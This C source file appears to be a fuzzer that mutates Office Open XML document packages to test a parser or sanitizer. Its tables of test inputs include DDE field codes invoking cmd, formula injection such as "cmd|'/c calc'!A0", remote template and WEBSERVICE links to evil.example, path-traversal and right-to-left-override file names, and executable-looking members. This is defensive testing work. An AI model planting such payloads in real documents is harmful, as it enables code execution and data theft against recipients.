#include "mutate_package.h"
#include "format/job_test.h"
#include "format/zip_read.h"
#include "format/zip_write.h"
#include "names/names.h"

#include <stdio.h>

uint64_t mutate_random(struct package *p, uint64_t below)
{
	p->random ^= p->random << 13;
	p->random ^= p->random >> 7;
	p->random ^= p->random << 17;
	return below ? p->random % below : 0;
}

struct slice mutate_splice(struct package *p, struct slice in, size_t at, size_t cut,
			   struct slice put)
{
	uint8_t *out = arena_alloc(p->arena, in.n - cut + put.n);

	BUG_IF(!out || at + cut > in.n);
	if (at)
		memcpy(out, in.p, at);
	if (put.n)
		memcpy(out + at, put.p, put.n);
	if (in.n - at - cut)
		memcpy(out + at + put.n, in.p + at + cut, in.n - at - cut);
	return slice_of(out, in.n - cut + put.n);
}

static bool add_member(struct package *p, struct slice name, struct slice data, bool stored)
{
	void *items = p->members;

	if (arena_grow(p->arena, &items, p->n, &p->cap, sizeof(*p->members)) != OK)
		return false;
	p->members = items;
	p->members[p->n++] = (struct member){name, data, stored};
	return true;
}

bool package_open(struct slice in, struct arena *arena, struct package *ret)
{
	AUTO_JOB b;
	AUTO_BUF scratch;
	struct zip z = {0};
	bool ok = true;

	job_box_init(&b, in, "");
	buf_init(&scratch, 1 << 28);
	*ret = (struct package){.arena = arena, .random = 88172645463325252ull};
	if (zip_open(&b.job, &z) != OK)
		return false;
	for (size_t i = 0; i < z.n && ok; i++) {
		struct zip_member *m = &z.members[i];
		struct slice data;

		ok = zip_read(&z, m, &scratch, &data, NULL) == OK &&
		     add_member(ret, arena_copy(arena, m->name), arena_copy(arena, data),
				m->method == 0);
	}
	zip_close(&z);
	return ok;
}

bool package_print(struct package *p, struct buf *out)
{
	AUTO_ZIP_WRITER w;
	bool ok = zip_writer_init(&w, p->arena, out->max) == OK;

	for (size_t i = 0; i < p->n && ok; i++) {
		struct member *m = &p->members[i];

		ok = (m->stored ? zip_add_stored : zip_add)(&w, m->name, m->data) == OK;
	}
	return ok && zip_finish(&w, out) == OK;
}

bool package_same(const struct package *a, const struct package *b)
{
	for (size_t i = 0; i < a->n && a->n == b->n; i++)
		if (!slice_eq(a->members[i].name, b->members[i].name) ||
		    !slice_eq(a->members[i].data, b->members[i].data))
			return false;
	return a->n == b->n;
}

/* ---- places in XML ---- */

static struct member *pick_member(struct package *p, const char *suffix)
{
	size_t start = (size_t)mutate_random(p, p->n);

	for (size_t i = 0; i < p->n; i++) {
		struct member *m = &p->members[(start + i) % p->n];

		if (slice_ends(m->name, slice_str(suffix)))
			return m;
	}
	return NULL;
}

/* A start tag of m: offset of '<' and of the byte behind '>'. */
static bool pick_tag(struct package *p, const struct member *m, size_t *ret_at, size_t *ret_end)
{
	size_t start = (size_t)mutate_random(p, m->data.n), n = m->data.n;

	for (size_t k = 0; k < n; k++) {
		size_t i = (start + k) % n, end;

		if (m->data.p[i] != '<' || i + 1 == n || m->data.p[i + 1] == '?' ||
		    m->data.p[i + 1] == '/' || m->data.p[i + 1] == '!')
			continue;
		end = slice_find_byte(slice_from(m->data, i), '>');
		if (end == SIZE_MAX)
			continue;
		*ret_at = i;
		*ret_end = i + end + 1;
		return true;
	}
	return false;
}

static void insert(struct package *p, struct member *m, size_t at, const char *text)
{
	m->data = mutate_splice(p, m->data, at, 0, slice_str(text));
}

static const struct names_element *tag_row(struct slice tag)
{
	size_t end = 1, colon;
	struct slice name, prefix = S("");
	const struct names_ns *ns;

	while (end < tag.n && !strchr(" />", tag.p[end]))
		end++;
	name = slice_of(tag.p + 1, end - 1);
	colon = slice_find_byte(name, ':');
	if (colon != SIZE_MAX) {
		prefix = slice_head(name, colon);
		name = slice_from(name, colon + 1);
	}
	ns = names_ns_by_prefix(prefix);
	return ns ? names_element(ns->number, name) : NULL;
}

/* ---- elements and attributes ---- */

/* Any element that the tables drop, anywhere. */
static bool dropped_element(struct package *p)
{
	struct member *m = pick_member(p, ".xml");
	const struct names_element *table, *row;
	size_t n, at, end;
	const char *prefix;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	table = names_element_table(&n);
	row = &table[mutate_random(p, n)];
	prefix = names_ns(row->ns)->prefix;
	if (row->disp == NAMES_KEEP || !prefix)
		return false;
	insert(p, m, mutate_random(p, 2) ? at : end,
	       arena_printf(p->arena, "<%s%s%s/>", prefix, prefix[0] ? ":" : "", row->name));
	return true;
}

static bool foreign_element(struct package *p)
{
	static const char *const foreign[] = {
	    "<o:OLEObject Type=\"Embed\" ProgID=\"Package\"/>",
	    "<v:shape><v:imagedata r:id=\"rId1\"/></v:shape>",
	    "<script>x</script>",
	    "<mc:AlternateContent/>",
	    "<w:altChunk r:id=\"rId1\"/>",
	    "<w:object/>",
	    "<w:attachedTemplate r:id=\"rId1\"/>",
	    "<oleObjects/>",
	    "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c\"/>",
	    "<a:videoFile r:link=\"rId1\"/>",
	    "<w:dataBinding w:xpath=\"/\"/>",
	    "<extLst/>",
	    "<w:control r:id=\"rId1\"/>",
	    "<x xmlns=\"urn:schemas-microsoft-com:vml\"/>",
	};
	struct member *m = pick_member(p, ".xml");
	size_t at, end;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	insert(p, m, mutate_random(p, 2) ? at : end, foreign[mutate_random(p, ARRAY_LEN(foreign))]);
	return true;
}

static size_t before_tag_end(const struct member *m, size_t end)
{
	return m->data.p[end - 2] == '/' ? end - 2 : end - 1;
}

static bool dropped_attribute(struct package *p)
{
	struct member *m = pick_member(p, ".xml");
	const struct names_element *row;
	const struct names_attr *a;
	const char *prefix;
	size_t at, end;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	row = tag_row(slice_of(m->data.p + at, end - at));
	if (!row || row->n_attrs == 0)
		return false;
	a = &row->attrs[mutate_random(p, row->n_attrs)];
	prefix = names_ns(a->ns)->prefix;
	if (a->disp == NAMES_KEEP || (a->ns != NS_NONE && (!prefix || !prefix[0])))
		return false;
	insert(p, m, before_tag_end(m, end),
	       arena_printf(p->arena, " %s%s%s=\"1\"", a->ns != NS_NONE ? prefix : "",
			    a->ns != NS_NONE ? ":" : "", a->name));
	return true;
}

static bool foreign_attribute(struct package *p)
{
	static const char *const foreign[] = {
	    " onclick=\"x()\"",
	    " r:link=\"rId1\"",
	    " xml:base=\"http://evil.example/\"",
	    " o:relid=\"rId1\"",
	    " macro=\"Auto_Open\"",
	    " xmlns:q=\"urn:q\"",
	    " xmlns=\"urn:q\"",
	    " mc:Ignorable=\"w14\"",
	    " xsi:schemaLocation=\"a b\"",
	    " action=\"ppaction://program\"",
	    " r:id=\"rId99\"",
	    " o:href=\"file:///c:/x.exe\"",
	    " w:rsidR=\"00AB12CD\"",
	};
	struct member *m = pick_member(p, ".xml");
	size_t at, end;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	insert(p, m, before_tag_end(m, end), foreign[mutate_random(p, ARRAY_LEN(foreign))]);
	return true;
}

/* An attribute whose value is no free text gets a value outside its domain. */
static bool attribute_value(struct package *p)
{
	static const char *const values[] = {"javascript:alert(1)", "&quot;&gt;&lt;script&gt;",
					     "\\\\evil.example\\x", "cmd|'/c calc'!A0"};
	struct member *m = pick_member(p, ".xml");
	const struct names_element *row;
	const struct names_attr *a;
	struct slice tag, name;
	size_t at, end, eq, start;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	tag = slice_of(m->data.p + at, end - at);
	row = tag_row(tag);
	eq = slice_find(tag, S("=\""));
	if (!row || eq == SIZE_MAX)
		return false;
	for (start = eq; tag.p[start - 1] != ' '; start--)
		;
	name = slice_of(tag.p + start, eq - start);
	a = names_attribute(row, NS_NONE, name);
	if (slice_find_byte(name, ':') != SIZE_MAX || !a || !a->domain ||
	    a->domain->kind == DOMAIN_TEXT)
		return false;
	end = slice_find_byte(slice_from(tag, eq + 2), '"');
	m->data = mutate_splice(p, m->data, at + eq + 2, end,
				slice_str(values[mutate_random(p, ARRAY_LEN(values))]));
	return true;
}

/* ---- the form of XML ---- */

static bool prolog(struct package *p)
{
	static const char *const texts[] = {
	    "<!DOCTYPE x [<!ENTITY a \"b\">]>",
	    "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>",
	    "<!-- c -->",
	    "\n",
	    " ",
	};
	struct member *m = pick_member(p, mutate_random(p, 4) ? ".xml" : ".rels");
	size_t end;

	if (!m)
		return false;
	end = slice_find(m->data, S("?>"));
	switch (end == SIZE_MAX ? 0 : mutate_random(p, 3)) {
	case 0:
		insert(p, m, m->data.n, texts[mutate_random(p, ARRAY_LEN(texts))]);
		return true;
	case 1:
		insert(p, m, 0, mutate_random(p, 2) ? "\xef\xbb\xbf" : " ");
		return true;
	}
	insert(p, m, end + 2, texts[mutate_random(p, ARRAY_LEN(texts) - 2)]);
	return true;
}

static bool inside(struct package *p)
{
	static const char *const texts[] = {"<!-- c -->",   "<![CDATA[x]]>", "<?php x?>", "&a;",
					    "&#x1;",        "\x01",          "\xff",      "&#65;",
					    "\xed\xa0\x80", "\xef\xbf\xbe",  "<",         "&"};
	struct member *m = pick_member(p, ".xml");
	size_t at, end;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	insert(p, m, end, texts[mutate_random(p, ARRAY_LEN(texts))]);
	return true;
}

/* Another spelling of the same tree: one document, one print. */
static bool spelling(struct package *p)
{
	struct member *m = pick_member(p, mutate_random(p, 4) ? ".xml" : ".rels");
	size_t at, end, quote, close;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	switch (mutate_random(p, 3)) {
	case 0:
		insert(p, m, before_tag_end(m, end), " ");
		return true;
	case 1:
		insert(p, m, before_tag_end(m, end), "\n");
		return true;
	}
	quote = slice_find_byte(slice_of(m->data.p + at, end - at), '"');
	if (quote == SIZE_MAX)
		return false;
	close = slice_find_byte(slice_from(m->data, at + quote + 1), '"');
	m->data = mutate_splice(p, m->data, at + quote, 1, S("'"));
	m->data = mutate_splice(p, m->data, at + quote + 1 + close, 1, S("'"));
	return true;
}

/* ---- small languages inside documents ---- */

static bool field_code(struct package *p)
{
	static const char *const codes[] = {"DDEAUTO cmd topic item",
					    "DDE cmd topic",
					    "INCLUDEPICTURE http://evil.example/x",
					    "INCLUDETEXT x.docx",
					    "LINK Excel.Sheet.8 x.xls",
					    "MACROBUTTON Auto_Open x",
					    "IMPORT x.png",
					    "HYPERLINK file:///c:/x.exe",
					    "QUOTE 65 66",
					    "= 1 + 1"};
	struct member *m = pick_member(p, "document.xml");
	size_t from, at;

	if (!m)
		return false;
	from = (size_t)mutate_random(p, m->data.n);
	at = slice_find(slice_from(m->data, from), S("</w:p>"));
	if (at == SIZE_MAX)
		return false;
	insert(
	    p, m, from + at,
	    arena_printf(p->arena,
			 mutate_random(p, 2)
			     ? "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText "
			       "xml:space=\"preserve\">%s</w:instrText></w:r><w:r><w:fldChar "
			       "w:fldCharType=\"end\"/></w:r>"
			     : "<w:fldSimple w:instr=\"%s\"/>",
			 codes[mutate_random(p, ARRAY_LEN(codes))]));
	return true;
}

static bool formula_text(struct package *p)
{
	static const char *const formulas[] = {"WEBSERVICE(\"http://evil.example\")",
					       "[1]Sheet1!A1",
					       "cmd|'/c calc'!A0",
					       "INDIRECT(\"A1\")",
					       "HYPERLINK(\"http://evil.example\",\"x\")",
					       "sum(a1)",
					       " A1",
					       "A1 ",
					       "=A1",
					       "EXEC(\"calc\")",
					       "_xll.x()",
					       "'C:\\[b.xls]S'!A1",
					       "SUM(A1",
					       "RTD(\"a\",,\"b\")"};
	struct member *m = pick_member(p, ".xml");
	size_t from, at, end;

	if (!m)
		return false;
	from = (size_t)mutate_random(p, m->data.n);
	at = slice_find(slice_from(m->data, from), S("<f>"));
	if (at == SIZE_MAX)
		at = slice_find(slice_from(m->data, from), S(":f>"));
	if (at == SIZE_MAX)
		return false;
	at += from + 3;
	end = slice_find_byte(slice_from(m->data, at), '<');
	m->data = mutate_splice(p, m->data, at, end,
				slice_str(formulas[mutate_random(p, ARRAY_LEN(formulas))]));
	return true;
}

/* ---- relationships, parts, content types ---- */

#define MS_REL "http://schemas.microsoft.com/office/2006/relationships/"
#define OFFICE_REL "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

static bool relationship(struct package *p)
{
	static const char *const rows[] = {
	    OFFICE_REL "attachedTemplate\" Target=\"http://evil.example/t\" TargetMode=\"External",
	    OFFICE_REL "oleObject\" Target=\"embeddings/oleObject1.bin",
	    OFFICE_REL "externalLink\" Target=\"externalLinks/externalLink1.xml",
	    OFFICE_REL "aFChunk\" Target=\"x.html",
	    OFFICE_REL "image\" Target=\"http://evil.example/x.png\" TargetMode=\"External",
	    OFFICE_REL "hyperlink\" Target=\"file:///c:/x.exe\" TargetMode=\"External",
	    OFFICE_REL "hyperlink\" Target=\"https://evil.example/\" TargetMode=\"External",
	    OFFICE_REL "customXml\" Target=\"../customXml/item1.xml",
	    OFFICE_REL "subDocument\" Target=\"x.docx\" TargetMode=\"External",
	    MS_REL "vbaProject\" Target=\"vbaProject.bin",
	    "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject\" Target=\"x.bin",
	};
	struct member *m = pick_member(p, ".rels");
	size_t at, end, open, close;

	if (!m || !pick_tag(p, m, &at, &end))
		return false;
	if (mutate_random(p, 2)) {
		at = slice_rfind(m->data, S("</"));
		insert(p, m, at,
		       arena_printf(p->arena, "<Relationship Id=\"rId%u\" Type=\"%s\"/>",
				    90u + (unsigned)mutate_random(p, 9),
				    rows[mutate_random(p, ARRAY_LEN(rows))]));
		return true;
	}
	open = slice_find(slice_from(m->data, at), S("Target=\""));
	if (open == SIZE_MAX)
		return false;
	open += at + strlen("Target=\"");
	close = slice_find_byte(slice_from(m->data, open), '"');
	m->data = mutate_splice(
	    p, m->data, open, close,
	    mutate_random(p, 2) ? S("../../x.xml") : S("file:///c:/x.exe\" TargetMode=\"External"));
	return true;
}

static bool more_parts(struct package *p)
{
	static const char *const names[] = {"word/vbaProject.bin",
					    "xl/vbaProject.bin",
					    "ppt/vbaProject.bin",
					    "customXml/item1.xml",
					    "docProps/core.xml",
					    "word/afchunk.html",
					    "xl/macrosheets/sheet1.xml",
					    "xl/externalLinks/externalLink1.xml",
					    "word/embeddings/oleObject1.bin",
					    "../evil.xml",
					    "/abs.xml",
					    "C:/x.xml",
					    "a\\b.xml",
					    "[Content_Types].xml",
					    "_rels/.rels",
					    "x.exe",
					    "con.xml",
					    "word/document.xml"};
	const char *name = names[mutate_random(p, ARRAY_LEN(names))];

	if (mutate_random(p, 2) && p->n) {
		struct member *types = &p->members[0];
		size_t at = slice_rfind(types->data, S("</"));

		insert(p, types, at,
		       arena_printf(p->arena,
				    "<Override PartName=\"/%s\" ContentType=\"application/xml\"/>",
				    name));
	}
	return add_member(p, slice_str(name), S("<x/>"), false);
}

static bool less_parts(struct package *p)
{
	size_t i = (size_t)mutate_random(p, p->n);

	/* Without its relationships a part may still be a good one. */
	if (slice_ends(p->members[i].name, S(".rels")))
		return false;
	memmove(&p->members[i], &p->members[i + 1], (p->n - i - 1) * sizeof(*p->members));
	p->n--;
	return true;
}

static bool other_name(struct package *p)
{
	struct member *m = &p->members[mutate_random(p, p->n)];
	uint8_t *name;

	if (mutate_random(p, 2)) {
		m->name = slice_str(
		    arena_printf(p->arena, "x/%.*s", (int)m->name.n, (const char *)m->name.p));
		return true;
	}
	name = (uint8_t *)arena_str(p->arena, m->name);
	name[m->name.n - 1] ^= 0x20; /* another case of the last letter */
	m->name.p = name;
	return true;
}

static bool content_type(struct package *p)
{
	static const char *const rows[] = {
	    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
	    "<Default Extension=\"vml\" ContentType=\"application/xml\"/>",
	    "<Override PartName=\"/x.xml\" ContentType=\"application/xml\"/>",
	    "<Default Extension=\"XML\" ContentType=\"application/xml\"/>",
	};
	struct member *m = &p->members[0];
	size_t at;

	if (mutate_random(p, 2)) {
		insert(p, m, slice_rfind(m->data, S("</")),
		       rows[mutate_random(p, ARRAY_LEN(rows))]);
		return true;
	}
	at = slice_find(m->data, S(".main+xml"));
	if (at == SIZE_MAX)
		return false;
	m->data = mutate_splice(p, m->data, at, 1, S(".macroEnabled."));
	return true;
}

static bool picture_tail(struct package *p)
{
	static const char *const tails[] = {"x", "PK\x03\x04", "\xff\xd9", "<?php x?>"};
	struct member *m = pick_member(p, mutate_random(p, 2) ? ".png" : ".jpg");

	if (!m)
		m = pick_member(p, ".jpeg");
	if (!m)
		return false;
	if (mutate_random(p, 2))
		insert(p, m, m->data.n, tails[mutate_random(p, ARRAY_LEN(tails))]);
	else
		insert(p, m, 2, "\xff\xfe\x01\x03x");
	return true;
}

/* ---- elements in places where they may not stand ---- */

struct element {
	size_t at, end, inside; /* of its first byte, behind its last one, behind its start tag */
	size_t parent;          /* SIZE_MAX: the root */
	const struct names_element *row;
};

struct tree {
	struct element *list; /* in document order */
	size_t n, cap;
};

/* The elements of a part as our writer prints it: tags and text, nothing else. */
static bool read_tree(struct package *p, const struct member *m, struct tree *t)
{
	size_t open[64], depth = 0;

	*t = (struct tree){0};
	for (size_t i = 0; i < m->data.n; i++) {
		size_t end = slice_find_byte(slice_from(m->data, i), '>');
		struct slice tag;

		if (m->data.p[i] != '<')
			continue;
		if (end == SIZE_MAX || depth == ARRAY_LEN(open))
			return false;
		tag = slice_of(m->data.p + i, end + 1);
		if (tag.p[1] == '/') {
			t->list[open[--depth]].end = i + tag.n;
		} else if (tag.p[1] != '?') {
			void *list = t->list;

			if (arena_grow(p->arena, &list, t->n, &t->cap, sizeof(*t->list)) != OK)
				return false;
			t->list = list;
			t->list[t->n] =
			    (struct element){.at = i,
					     .inside = i + tag.n,
					     .end = i + tag.n,
					     .parent = depth ? open[depth - 1] : SIZE_MAX,
					     .row = tag_row(tag)};
			if (tag.p[tag.n - 2] != '/')
				open[depth++] = t->n;
			t->n++;
		}
		i += tag.n - 1;
	}
	return t->n > 1;
}

/* A part with its tree and one of its elements that is not the root. */
static struct member *pick_element(struct package *p, struct tree *t, size_t *ret)
{
	struct member *m = pick_member(p, ".xml");

	if (!m || !read_tree(p, m, t) || !t->list[0].row)
		return NULL;
	*ret = 1 + (size_t)mutate_random(p, t->n - 1);
	return t->list[*ret].row && t->list[t->list[*ret].parent].row ? m : NULL;
}

static struct slice bytes_of(const struct member *m, const struct element *e)
{
	return slice_head(slice_from(m->data, e->at), e->end - e->at);
}

static bool place_of(const struct tree *t, size_t i, struct names_place *ret)
{
	return names_place(t->list[i].row, t->list[t->list[i].parent].row, ret);
}

/* Cut out here and put in behind the start tag of an element that may not hold it. */
static bool moved_element(struct package *p)
{
	struct tree t;
	size_t i, to;
	struct member *m = pick_element(p, &t, &i);
	struct names_place place;
	struct slice cut, rest;

	if (!m)
		return false;
	to = (size_t)mutate_random(p, t.n);
	if ((t.list[to].at >= t.list[i].at && t.list[to].at < t.list[i].end) || !t.list[to].row ||
	    t.list[to].end == t.list[to].inside ||
	    names_place(t.list[i].row, t.list[to].row, &place))
		return false;
	cut = bytes_of(m, &t.list[i]);
	rest = mutate_splice(p, m->data, t.list[i].at, cut.n, S(""));
	m->data = mutate_splice(
	    p, rest, t.list[to].inside - (t.list[to].inside > t.list[i].at ? cut.n : 0), 0, cut);
	return true;
}

/* A second one of what stands once. */
static bool doubled_element(struct package *p)
{
	struct tree t;
	size_t i;
	struct member *m = pick_element(p, &t, &i);
	struct names_place place;

	if (!m || !place_of(&t, i, &place) || place.many)
		return false;
	m->data = mutate_splice(p, m->data, t.list[i].end, 0, bytes_of(m, &t.list[i]));
	return true;
}

/* Two siblings in the other order. */
static bool swapped_elements(struct package *p)
{
	struct tree t;
	size_t i;
	struct member *m = pick_element(p, &t, &i);
	struct names_place a, b;
	struct slice first;

	for (size_t k = i + 1; m && k < t.n && t.list[k].at <= t.list[i].end; k++) {
		if (t.list[k].at != t.list[i].end || t.list[k].parent != t.list[i].parent)
			continue;
		if (!t.list[k].row || !place_of(&t, i, &a) || !place_of(&t, k, &b) ||
		    a.rank == b.rank)
			return false;
		first = bytes_of(m, &t.list[i]);
		m->data = mutate_splice(p, m->data, t.list[k].end, 0, first);
		m->data = mutate_splice(p, m->data, t.list[i].at, first.n, S(""));
		return true;
	}
	return false;
}

/* Without a child that its parent always has. */
static bool missing_element(struct package *p)
{
	struct tree t;
	size_t i;
	struct member *m = pick_element(p, &t, &i);
	struct names_place place, other;

	if (!m || !place_of(&t, i, &place) || place.bit == NAMES_NONE ||
	    !(names_must_bits(t.list[t.list[i].parent].row) >> place.bit & 1))
		return false;
	for (size_t k = 1; k < t.n; k++)
		if (k != i && t.list[k].parent == t.list[i].parent && t.list[k].row &&
		    place_of(&t, k, &other) && other.bit == place.bit)
			return false;
	m->data = mutate_splice(p, m->data, t.list[i].at, t.list[i].end - t.list[i].at, S(""));
	return true;
}

const struct mutator package_mutators[] = {
    {"element in another one", moved_element},
    {"element twice", doubled_element},
    {"elements in another order", swapped_elements},
    {"element that is needed", missing_element},
    {"element that is dropped", dropped_element},
    {"foreign element", foreign_element},
    {"attribute that is dropped", dropped_attribute},
    {"foreign attribute", foreign_attribute},
    {"attribute value", attribute_value},
    {"XML prolog and end", prolog},
    {"comment, CDATA, reference, byte", inside},
    {"another spelling", spelling},
    {"field code", field_code},
    {"formula", formula_text},
    {"relationship", relationship},
    {"part added", more_parts},
    {"part removed", less_parts},
    {"part renamed", other_name},
    {"content type", content_type},
    {"picture with a tail", picture_tail},
};
const size_t package_mutators_n = ARRAY_LEN(package_mutators);

/* ---- archives of documents ---- */

/* Plants something into a document inside the archive. */
static bool nested(struct package *p)
{
	struct member *m = pick_member(p, ".docx");
	struct package inner;
	AUTO_BUF out;

	buf_init(&out, 1 << 26);
	if (!m || !package_open(m->data, p->arena, &inner))
		return false;
	inner.random = mutate_random(p, UINT64_MAX) | 1;
	if (!package_mutators[mutate_random(p, package_mutators_n)].mutate(&inner) ||
	    !package_print(&inner, &out))
		return false;
	m->data = arena_copy(p->arena, buf_view(&out));
	return true;
}

static bool bad_name(struct package *p)
{
	static const char *const names[] = {
	    "../a.txt", "/a.txt",    "a\\b.txt",          "C:a.txt", "con.txt",
	    "a .txt/",  "a//b.txt",  "./a.txt",           "a.exe",   "a.docm",
	    "a.txt.",   "a\x01.txt", "a\xe2\x80\xae.txt", "a"};
	struct member *m = &p->members[mutate_random(p, p->n)];

	m->name = slice_str(names[mutate_random(p, ARRAY_LEN(names))]);
	return true;
}

static bool same_name(struct package *p)
{
	struct member *m = &p->members[mutate_random(p, p->n)];
	struct slice data = m->data;

	return add_member(p, m->name, data, false);
}

static bool foreign_member(struct package *p)
{
	static const char *const names[] = {"x.exe", "x.vbs", "x.lnk",  "x.txt",
					    "x.png", "x.zip", "x.docx", "x.html"};

	return add_member(p, slice_str(names[mutate_random(p, ARRAY_LEN(names))]),
			  S("MZ\x90\0<script>"), false);
}

const struct mutator archive_mutators[] = {
    {"something in a nested document", nested},
    {"something in a nested document", nested},
    {"bad name", bad_name},
    {"two of one name", same_name},
    {"foreign member", foreign_member},
};
const size_t archive_mutators_n = ARRAY_LEN(archive_mutators);
